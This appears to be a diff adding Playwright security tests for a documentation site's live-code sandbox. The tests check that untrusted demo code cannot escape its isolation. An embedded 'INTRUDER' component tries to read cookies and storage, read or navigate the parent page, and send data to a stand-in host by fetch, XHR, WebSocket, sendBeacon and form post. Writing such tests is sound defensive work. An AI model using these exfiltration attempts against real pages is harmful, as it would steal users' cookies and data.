@@ -1,0 +1,213 @@
+import { expect, test } from '@playwright/test';
+import type { Page } from '@playwright/test';
+import { openHydrated } from './support/hydration';
+import { openEditor, sandbox } from './support/live';
+
+const BUTTONS = '/material-ui/react-button/';
+const DEMO = 'BasicButtons';
+const SANDBOX = '/demo/live/material/';
+const LEAK = 'https://leak.example.com';
+
+/** A demo that tries what a stranger's code might, and writes down what came of each. */
+const INTRUDER = `
+import * as React from 'react';
+
+const attempts: Record<string, () => unknown> = {
+  'read cookies': () => document.cookie,
+  'write cookies': () => { document.cookie = 'taken=1'; },
+  'read storage': () => localStorage.getItem('mui-mode'),
+  'session storage': () => sessionStorage.length,
+  'open a database': () => indexedDB.open('x'),
+  'read the page': () => parent.document.title,
+  'read the page by the frame': () => (frameElement as Element).outerHTML,
+  'read the address of the page': () => parent.location.href,
+  'leave the page': () => { top!.location.href = '${LEAK}/top'; },
+  'open a window': () => { if (!window.open('${LEAK}/window')) throw new Error('no window'); },
+  'fetch from the site': () => fetch('/sitemap.xml', { mode: 'no-cors' }),
+  'fetch from elsewhere': () => fetch('${LEAK}/fetch', { mode: 'no-cors' }),
+  'old request': () => new Promise((resolve, reject) => {
+    const request = new XMLHttpRequest();
+    request.open('GET', '${LEAK}/xhr');
+    request.onload = resolve;
+    request.onerror = reject;
+    request.send();
+  }),
+  'image from elsewhere': () => new Promise((resolve, reject) => {
+    const image = new Image();
+    image.onload = resolve;
+    image.onerror = reject;
+    image.src = '${LEAK}/image.png';
+  }),
+  'socket': () => new Promise((resolve, reject) => {
+    const socket = new WebSocket('wss://leak.example.com/socket');
+    socket.onopen = resolve;
+    socket.onerror = reject;
+  }),
+  'script from elsewhere': () => new Promise((resolve, reject) => {
+    const script = document.createElement('script');
+    script.onload = resolve;
+    script.onerror = reject;
+    script.src = '${LEAK}/script.js';
+    document.head.append(script);
+  }),
+  'frame from elsewhere': () => new Promise((resolve, reject) => {
+    document.addEventListener('securitypolicyviolation', reject, { once: true });
+    const frame = document.createElement('iframe');
+    frame.src = '${LEAK}/frame';
+    document.body.append(frame);
+    setTimeout(resolve, 2000);
+  }),
+  'worker': () => new Promise((resolve, reject) => {
+    const worker = new Worker('/assets/worker.js');
+    worker.onerror = reject;
+    setTimeout(resolve, 2000);
+  }),
+};
+
+export default function Intruder() {
+  const [results, setResults] = React.useState<string[] | null>(null);
+  React.useEffect(() => {
+    const form = document.createElement('form');
+    form.method = 'post';
+    form.action = '${LEAK}/form';
+    document.body.append(form);
+    form.submit();
+    navigator.sendBeacon('${LEAK}/beacon', 'x');
+    Promise.all(
+      Object.entries(attempts).map(async ([name, run]) => {
+        try {
+          await run();
+          return name;
+        } catch {
+          return '';
+        }
+      }),
+    ).then((names) => setResults(names.filter(Boolean)));
+  }, []);
+  return <output>{results ? \`Succeeded: \${results.join(', ') || 'nothing'}\` : 'Trying'}</output>;
+}
+`;
+
+/** Serves the sandbox as a host that sends no headers of its own. */
+async function withoutHeaders(page: Page): Promise<void> {
+  await page.route(`**${SANDBOX}`, async (route) => {
+    const response = await route.fetch();
+    const headers = response.headers();
+    delete headers['content-security-policy'];
+    await route.fulfill({ response, headers });
+  });
+}
+
+/** Answers, and notes down, whatever leaves for the intruder's host. */
+async function watchLeaks(page: Page): Promise<string[]> {
+  const leaks: string[] = [];
+  await page.context().route(`${LEAK}/**`, async (route) => {
+    leaks.push(new URL(route.request().url()).pathname);
+    await route.fulfill({ body: 'leaked' });
+  });
+  return leaks;
+}
+
+for (const host of ['with headers', 'without headers']) {
+  test(`edited code reaches neither the site nor another host (${host})`, async ({
+    page,
+    baseURL,
+  }) => {
+    const leaks = await watchLeaks(page);
+    if (host === 'without headers') {
+      await withoutHeaders(page);
+    }
+    await page.context().addCookies([{ name: 'secret', value: '1', url: baseURL! }]);
+    await openHydrated(page, BUTTONS);
+    const editor = await openEditor(page, DEMO);
+    await editor.fill(INTRUDER);
+    const output = sandbox(page, DEMO).getByRole('status');
+    await expect(output).toHaveText('Succeeded: nothing', { timeout: 10_000 });
+    expect(leaks).toEqual([]);
+    await expect(page).toHaveURL(new RegExp(`${BUTTONS}$`));
+    expect(page.context().pages()).toHaveLength(1);
+  });
+}
+
+test('the intruder succeeds where nothing holds it, so that its failure means something', async ({
+  page,
+}) => {
+  await openHydrated(page, BUTTONS);
+  const names = await page.evaluate(async () => {
+    document.cookie = 'own=1';
+    const responses = await Promise.all([fetch('/sitemap.xml')]);
+    return [document.cookie.includes('own=1'), localStorage.length >= 0, responses[0].ok];
+  });
+  expect(names).toEqual([true, true, true]);
+});
+
+test('the sandbox cannot take its frame to another host', async ({ page }) => {
+  const leaks = await watchLeaks(page);
+  await openHydrated(page, BUTTONS);
+  const editor = await openEditor(page, DEMO);
+  const refused = page.evaluate(
+    () =>
+      new Promise<string>((resolve) => {
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+          resolve(effectiveDirective),
+        );
+      }),
+  );
+  await editor.fill(
+    `export default function Leave() { location.href = '${LEAK}/away'; return null; }`,
+  );
+  expect(await refused).toBe('frame-src');
+  expect(leaks).toEqual([]);
+});
+
+test('scripts and fonts that the sandbox needs do load', async ({ page }) => {
+  const failed: string[] = [];
+  page.on('requestfailed', (request) => failed.push(request.url()));
+  await openHydrated(page, BUTTONS);
+  const editor = await openEditor(page, DEMO);
+  await editor.fill(`import Button from '@mui/material/Button';
+export default () => <Button>Proof</Button>;`);
+  const button = sandbox(page, DEMO).getByRole('button', { name: 'Proof' });
+  await expect(button).toHaveCSS('text-transform', 'uppercase');
+  const loaded = await button.evaluate(() =>
+    [...document.fonts].filter(({ status }) => status === 'loaded').map(({ family }) => family),
+  );
+  expect(loaded.join()).toContain('Roboto');
+  expect(failed).toEqual([]);
+});
+
+test('the sandbox has the strictest of policies, and assets may be used from it', async ({
+  request,
+}) => {
+  const response = await request.get(SANDBOX);
+  const policy = response.headers()['content-security-policy'];
+  expect(policy).toContain('sandbox allow-scripts;');
+  expect(policy).toContain("connect-src 'none'");
+  const script = /src="([^"]+)"/.exec(await response.text())?.[1] ?? '';
+  const asset = await request.get(script);
+  expect(asset.headers()['access-control-allow-origin']).toBe('*');
+  const other = await request.get(BUTTONS);
+  expect(other.headers()['content-security-policy']).not.toContain('unsafe-eval');
+  expect(other.headers()).not.toHaveProperty('access-control-allow-origin');
+});
+
+test('the page of the sandbox runs nothing outside of a sandbox', async ({ page }) => {
+  await withoutHeaders(page);
+  await page.goto(SANDBOX);
+  await expect(page.getByRole('main')).toContainText('inside a frame of the documentation');
+
+  await openHydrated(page, BUTTONS);
+  await page.evaluate((src) => {
+    const frame = document.createElement('iframe');
+    frame.src = src;
+    frame.title = 'Bare frame';
+    frame.onload = () =>
+      frame.contentWindow!.postMessage(
+        { type: 'run', id: 1, variant: 'JS', folder: '', code: 'export default () => "ran"' },
+        '*',
+      );
+    document.body.append(frame);
+  }, SANDBOX);
+  const bare = page.frameLocator('iframe[title="Bare frame"]');
+  await expect(bare.getByRole('main')).toHaveText(/inside a frame of the documentation/);
+});
